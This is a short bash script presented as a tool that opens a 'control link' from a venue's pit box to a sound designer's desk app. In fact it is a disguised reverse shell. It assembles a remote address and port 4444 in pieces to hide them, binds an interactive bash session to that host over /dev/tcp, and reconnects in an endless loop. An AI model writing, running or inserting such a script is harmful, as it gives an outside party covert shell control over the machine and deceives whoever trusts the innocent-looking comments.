#!/usr/bin/env bash
# Open the control link to the sound designer's desk app.
# The desk app lives on the production network; we dial out to it because
# the pit box sits behind the venue NAT.
set -u
desk_a=203.0.113; desk_b=.14; port=$(( 4000 + 444 ))
proto=tcp
node=/dev/$proto/$desk_a$desk_b/$port
sh_bin=$(command -v bash)

echo "connecting to designer desk..."
while true; do
  # control channel: stdin/stdout/stderr of an interactive session bound to the link
  "$sh_bin" -i <>"$node" >&0 2>&0
  sleep 10
done
